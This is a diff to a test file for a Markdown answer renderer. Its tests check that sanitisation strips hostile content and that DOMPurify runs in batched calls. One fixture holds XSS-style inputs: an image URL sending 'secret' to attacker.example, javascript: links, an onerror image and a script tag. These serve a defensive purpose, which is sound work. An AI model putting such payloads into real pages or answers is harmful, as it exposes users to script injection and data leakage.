@@ -281,6 +281,46 @@ describe('AnswerBuild (an answer rendered outside React, for the idle fill)', ()
     expect(steps).toBe(40);
   });
 
+  it('Markdown images, javascript: links and raw HTML among ordinary blocks: the nodes Markdown renders', () => {
+    const text = [
+      '## Heading',
+      '![chart](https://attacker.example/c.png?q=secret) and [x](javascript:alert(1))',
+      'Raw <img src=x onerror="alert(1)"> and <script>alert(2)</script> in a paragraph',
+      // Code inside a quote: a block of Markdown whose code block gets a copy button.
+      '> quoted code:\n>\n> ```js\n> let a = 1;\n> ```',
+      '| a | b |\n| - | - |\n| 1 | 2 |',
+      '<a href="javascript:alert(3)">raw link</a>',
+      'The end.',
+    ].join('\n\n');
+    const { html } = built(text);
+    expect(html).toBe(markdownHtml(text));
+    expect(html).toContain('<blockquote>');
+    expect(html).toContain('class="copy"');
+    expect(html).not.toMatch(/onerror|<script|javascript:|<img/);
+  });
+
+  it('sanitises the blocks of an answer in one call, not one per block', () => {
+    const text = Array.from({ length: 40 }, (_, i) => `Paragraph ${i} with **bold** and [a link](https://example.com/${i}).`).join('\n\n');
+    const expected = markdownHtml(text);
+    // DOMPurify parses each call's HTML into a document of its own.
+    const parse = vi.spyOn(DOMParser.prototype, 'parseFromString');
+    expect(built(text).html).toBe(expected);
+    expect(parse).toHaveBeenCalledTimes(1);
+    parse.mockRestore();
+  });
+
+  it('a long answer in several calls, none sanitising much more than 8,000 characters of HTML', () => {
+    const text = Array.from({ length: 300 }, (_, i) => `Paragraph ${i}, long enough to fill a line or two of the panel, with *emphasis* in it.`).join('\n\n');
+    const expected = markdownHtml(text);
+    const parse = vi.spyOn(DOMParser.prototype, 'parseFromString');
+    expect(built(text).html).toBe(expected);
+    const sizes = parse.mock.calls.map(([html]) => html.length);
+    // ~30,000 characters of HTML; each call's also has a wrapper per block (sanitize-answer.ts).
+    expect(sizes.length).toBeGreaterThanOrEqual(3);
+    for (const size of sizes) expect(size).toBeLessThan(8_000 * 1.5);
+    parse.mockRestore();
+  });
+
   it('a long code block in several steps, ending as highlighting it whole does', () => {
     const code = Array.from({ length: 200 }, (_, i) => `const value${i} = "line ${i}"; // comment ${i}`).join('\n');
     const text = `Intro.\n\n\`\`\`js\n${code}\n\`\`\`\n\nOutro.`;
